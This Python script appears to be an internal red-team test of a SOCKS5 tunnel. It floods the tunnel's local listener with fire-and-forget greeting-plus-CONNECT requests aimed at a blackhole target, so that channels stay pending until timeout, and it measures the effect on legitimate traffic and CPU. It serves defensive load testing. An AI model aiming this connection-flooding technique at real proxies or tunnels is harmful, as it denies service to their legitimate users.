"""Like blackhole.py, but fire and forget at a fixed rate: each attacker connect sends the SOCKS5 greeting and
CONNECT (to the blackhole target) in one write, reads the 2-byte greeting reply (so its close is a FIN, not a
RST: unread data makes close() reset) and closes its socket 50 ms later, holding nothing.
The channel stays pending (OPEN unanswered) at side A until side B's connect times out (10 s).
Usage: timeout 110 python3 blackhole_ff.py RATE_PER_S SRC1 [SRC2 ...]"""
import sys, os, time, collections, threading, socket, struct
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import rt3  # noqa: E402  (the snapshot's binaries)
sys.path.insert(0, "/work/main/docs/redteam/2026-12-04")
from t9 import *
RATE, SRCS = float(sys.argv[1]), sys.argv[2:]
A_ARGS = os.environ.get("A_ARGS", "--max-channels-per-source 256").split()
echo = Target("echo")
BH, _blackhole = rt3.blackhole()
T = Tunnel(a_args=A_ARGS, listeners=("socks5",)); SP = T.ports["socks5"]
REQ = b"\x05\x01\x00" + b"\x05\x01\x00\x01" + socket.inet_aton("127.0.0.1") + struct.pack("!H", BH)
def legit(n=20):
    return rt3.legit(SP, echo.port, n)
sent = 0; stop = False; pend = collections.deque()
def attack():
    global sent
    i = 0; t0 = time.time()
    while not stop:
        src = SRCS[i % len(SRCS)]; i += 1
        try:
            s = socket.socket(); s.bind((src, 0)); s.connect(("127.0.0.1", SP)); s.sendall(REQ); s.settimeout(1); s.recv(2); pend.append((time.time(), s)); sent += 1
        except OSError: pass
        while pend and pend[0][0] < time.time() - 0.05: pend.popleft()[1].close()
        time.sleep(max(0, t0 + i / RATE - time.time()))
print(f"# {os.environ['TETHER']} fire-and-forget {RATE}/s from {SRCS} A_ARGS={A_ARGS}", flush=True)
print("baseline legit:", legit(), flush=True)
c0 = status(T.A.pid)["cpu_s"]; t0 = time.time()
threading.Thread(target=attack, daemon=True).start()
for at in (12, 20, 30, 45):
    while time.time() - t0 < at: time.sleep(0.1)
    print(f"t={at:>2} s legit: {legit()}  attacker connects so far {sent}, attacker sockets held now {len(pend)}", flush=True)
print(f"A CPU during attack {status(T.A.pid)['cpu_s']-c0:.1f} s over {time.time()-t0:.0f} s;", "A:", status(T.A.pid), "B:", status(T.B.pid))
print("B log tail:", T.log("B", 2)[-300:])
stop = True; T.close()
